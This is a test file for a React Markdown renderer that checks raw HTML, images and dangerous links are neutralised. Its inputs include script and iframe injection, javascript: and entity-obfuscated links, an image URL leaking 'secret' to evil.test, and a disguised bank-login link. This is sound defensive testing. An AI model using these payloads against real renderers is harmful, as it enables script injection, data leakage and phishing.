import { renderToStaticMarkup } from 'react-dom/server'
import { beforeAll, describe, expect, it } from 'vitest'
import { loadCompletion } from '@/components/markdown/completion'
import { Markdown } from '@/components/markdown/markdown'

const render = (text: string, streaming = false) => renderToStaticMarkup(<Markdown text={text} streaming={streaming} />)

beforeAll(loadCompletion)

describe.each([
  ['streaming', true],
  ['settled', false],
])('markdown of an answer, %s', (_name, streaming) => {
  it('renders headings, lists, tables and code', () => {
    const html = render(
      '# Title\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```promql\nup == 0\n```\n\n`x`',
      streaming,
    )
    expect(html).toContain('<h3 data-level="1">Title</h3>')
    expect(html).toContain('one</li>')
    expect(html).toMatch(/<td[^>]*>2<\/td>/)
    expect(html).toContain('promql')
    expect(html).toContain('up == 0')
    expect(html).toMatch(/<code>x<\/code>/)
  })

  it('shows raw HTML as text and never as elements', () => {
    const html = render(
      'before <script>alert(1)</script> <b onclick="x()">bold</b>\n\n<iframe src="https://evil.test"></iframe>',
      streaming,
    )
    expect(html).not.toMatch(/<script|<iframe|<b[ >]/i)
    expect(html).toContain('&lt;iframe')
  })

  it('loads no image, remote, relative or inline', () => {
    const html = render(
      '![a](https://evil.test/p.png?d=secret) ![b](/api/x) ![c](data:image/png;base64,AAAA)\n\n![ref][1]\n\n[1]: https://evil.test/q.png',
      streaming,
    )
    expect(html).not.toMatch(/<img|src=|background|url\(/i)
    expect(html).not.toContain('secret')
    expect(html).toContain('Image not loaded')
  })

  it('kills javascript, data and relative links and keeps their text', () => {
    const html = render(
      '[one](javascript:alert(1)) [two](data:text/html,x) [three](/sign-out) [four](vbscript:x) [five](JaVaScRiPt:x)',
      streaming,
    )
    expect(html).not.toContain('href')
    for (const word of ['one', 'two', 'three', 'four', 'five']) expect(html).toContain(word)
  })

  it('shows the host of a link that its text does not name', () => {
    const html = render('[our bank](https://evil.test/login)', streaming)
    expect(html).toContain('href="https://evil.test/login"')
    expect(html).toContain('rel="noopener noreferrer nofollow"')
    expect(html).toContain('(evil.test)')
    expect(html).toContain('title="https://evil.test/login"')
  })
})

it('does not make a link of one that is still being written', () => {
  expect(render('see [the dash](https://grafana.te', true)).not.toContain('href')
})

it('resolves references by name and by number, but not in code', () => {
  const html = render('a &lt; b &amp; c &#62; d &nosuch; `&lt;`')
  expect(html).toContain('a &lt; b &amp; c &gt; d &amp;nosuch;')
  expect(html).toContain('<code>&amp;lt;</code>')
  expect(render('[x](java&#115;cript:alert&lpar;1&rpar;)')).not.toContain('href')
})

it('keeps tasks, aligned columns, numbers of lists, breaks and quotes', () => {
  const html = render('3. c\n4. d\n\n- [x] done\n- [ ] open\n\n|a|\n|-:|\n|1|\n\n> q\n\none  \ntwo ~~three~~')
  expect(html).toMatch(/<ol start="3"><li>c<\/li>/)
  expect(html.match(/type="checkbox"/g)).toHaveLength(2)
  expect(html).toContain('<td style="text-align:right">1</td>')
  expect(html).toContain('<blockquote><p>q</p></blockquote>')
  expect(html).toMatch(/one<br\/>two <del>three<\/del>/)
})

it('finds what a reference names, also in another block', () => {
  expect(render('see [the dash][d]\n\nmore\n\n[d]: https://grafana.test/d/1')).toContain(
    'href="https://grafana.test/d/1"',
  )
})
